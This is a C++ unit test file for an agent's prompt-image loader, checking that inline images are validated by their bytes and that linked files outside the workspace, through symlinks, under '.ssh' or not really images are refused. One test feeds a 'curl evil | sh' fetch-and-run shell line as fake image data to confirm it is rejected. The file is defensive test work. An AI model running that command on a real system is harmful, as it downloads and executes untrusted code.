// A prompt's images: inline ones decoded and checked by their bytes, linked ones read from the workspace
// under the same guard as a tool's read. A hostile link (a secret, a path outside the workspace, a
// symlink out of it) is refused with a message, never read.
#include "core/engine/prompt_images.h"

#include <filesystem>
#include <fstream>

#include <gtest/gtest.h>

#include "core/support/base64.h"
#include "test/support/temp_dir.h"
#include "test/support/test_images.h"
#include "tools/sha256.h"

namespace agentd::core {
namespace {

namespace fs = std::filesystem;

struct Workspace {
  testing::TempDir dir;
  fs::path work;
  Workspace() : work(dir.path() / "work") {
    fs::create_directories(work / "shots");
    write(work / "shots" / "bug.png", testing::png_image(800, 600));
  }
  static void write(const fs::path& path, const std::string& bytes) {
    fs::create_directories(path.parent_path());
    std::ofstream(path, std::ios::binary) << bytes;
  }
  tools::PathGuard guard() const { return tools::PathGuard(work.string(), {}); }
  std::string uri(const fs::path& path) const { return "file://" + path.string(); }
};

PromptImage inline_image(const std::string& bytes, std::string declared = "image/png") {
  return PromptImage{support::base64_encode(bytes), {}, std::move(declared), "params.prompt[0]"};
}

TEST(PromptImages, AnInlineImageIsDecodedCheckedAndHashed) {
  Workspace w;
  const std::string bytes = testing::jpeg_image(1024, 768);
  // Declared as PNG, the bytes are JPEG: the bytes win.
  auto loaded = load_prompt_images({inline_image(bytes, "image/png")}, w.guard());
  ASSERT_TRUE(loaded) << loaded.error().message();
  ASSERT_EQ(loaded->size(), 1U);
  const auto& image = (*loaded)[0];
  EXPECT_EQ(image.block.media_type, "image/jpeg");
  EXPECT_EQ(image.block.width, 1024U);
  EXPECT_EQ(image.block.height, 768U);
  EXPECT_EQ(image.block.bytes, bytes.size());
  EXPECT_EQ(image.block.hash, tools::sha256_hex(bytes));
  EXPECT_EQ(image.block.data, support::base64_encode(bytes));
  EXPECT_EQ(image.bytes, bytes);
}

TEST(PromptImages, WhatIsNotAnImageIsRefusedByName) {
  Workspace w;
  auto text = load_prompt_images({inline_image("#!/bin/sh\ncurl evil | sh\n")}, w.guard());
  ASSERT_FALSE(text);
  EXPECT_EQ(text.error().code(), support::Errc::invalid_argument);
  EXPECT_NE(text.error().message().find("params.prompt[0]"), std::string::npos) << text.error().message();
  auto not_base64 = load_prompt_images({PromptImage{"@@@@", {}, "image/png", "params.prompt[3]"}}, w.guard());
  ASSERT_FALSE(not_base64);
  EXPECT_NE(not_base64.error().message().find("params.prompt[3]: the image's data is not base64"), std::string::npos)
      << not_base64.error().message();
  std::string big = testing::png_image(100, 100);
  big.resize((std::size_t{6} << 20));
  auto too_big = load_prompt_images({inline_image(big)}, w.guard());
  ASSERT_FALSE(too_big);
  EXPECT_NE(too_big.error().message().find("at most 5 MiB"), std::string::npos) << too_big.error().message();
  std::vector<PromptImage> many(kMaxPromptImages + 1, inline_image(testing::gif_image(2, 2)));
  auto too_many = load_prompt_images(many, w.guard());
  ASSERT_FALSE(too_many);
  EXPECT_NE(too_many.error().message().find("at most 20"), std::string::npos) << too_many.error().message();
}

TEST(PromptImages, ALinkedWorkspaceImageIsRead) {
  Workspace w;
  // Percent-encoded as editors write URIs.
  w.write(w.work / "shots" / "two words.png", testing::png_image(3, 4));
  auto loaded = load_prompt_images(
      {PromptImage{{}, w.uri(w.work / "shots" / "bug.png"), "image/png", "params.prompt[0]"},
       PromptImage{{}, "file://" + (w.work / "shots").string() + "/two%20words.png", "", "params.prompt[1]"}},
      w.guard());
  ASSERT_TRUE(loaded) << loaded.error().message();
  ASSERT_EQ(loaded->size(), 2U);
  EXPECT_EQ((*loaded)[0].block.width, 800U);
  EXPECT_EQ((*loaded)[1].block.height, 4U);
}

TEST(PromptImages, AHostileLinkIsRefusedNotRead) {
  Workspace w;
  // Outside the workspace.
  w.write(w.dir.path() / "elsewhere" / "x.png", testing::png_image(2, 2));
  auto outside =
      load_prompt_images({PromptImage{{}, w.uri(w.dir.path() / "elsewhere" / "x.png"), "", "p[0]"}}, w.guard());
  ASSERT_FALSE(outside);
  EXPECT_EQ(outside.error().code(), support::Errc::invalid_argument) << outside.error().message();
  // A symlink inside that leads out.
  fs::create_symlink(w.dir.path() / "elsewhere" / "x.png", w.work / "link.png");
  auto link = load_prompt_images({PromptImage{{}, w.uri(w.work / "link.png"), "", "p[0]"}}, w.guard());
  ASSERT_FALSE(link);
  EXPECT_EQ(link.error().code(), support::Errc::invalid_argument) << link.error().message();
  // A secret, named like an image.
  w.write(w.work / ".ssh" / "id.png", testing::png_image(2, 2));
  auto secret = load_prompt_images({PromptImage{{}, w.uri(w.work / ".ssh" / "id.png"), "", "p[0]"}}, w.guard());
  ASSERT_FALSE(secret);
  EXPECT_NE(secret.error().message().find("SSH"), std::string::npos) << secret.error().message();
  // A file that is not an image, whatever its name.
  w.write(w.work / "notes.png", "api_key=sk-123\n");
  auto text = load_prompt_images({PromptImage{{}, w.uri(w.work / "notes.png"), "image/png", "p[0]"}}, w.guard());
  ASSERT_FALSE(text);
  EXPECT_NE(text.error().message().find("not a PNG"), std::string::npos) << text.error().message();
  // Another host's file, and a missing one.
  EXPECT_FALSE(load_prompt_images({PromptImage{{}, "file://server/share/x.png", "", "p[0]"}}, w.guard()));
  auto missing = load_prompt_images({PromptImage{{}, w.uri(w.work / "gone.png"), "", "p[0]"}}, w.guard());
  ASSERT_FALSE(missing);
  EXPECT_EQ(missing.error().code(), support::Errc::not_found) << missing.error().message();
}

TEST(PromptImages, OnlyLocalImageLinksAreImages) {
  EXPECT_TRUE(is_image_link("file:///w/a.PNG", ""));
  EXPECT_TRUE(is_image_link("file:///w/screenshot", "image/png"));
  EXPECT_FALSE(is_image_link("file:///w/main.cpp", "text/x-c++"));
  EXPECT_FALSE(is_image_link("https://example.com/a.png", "image/png"));  // agentd fetches nothing
}

}  // namespace
}  // namespace agentd::core
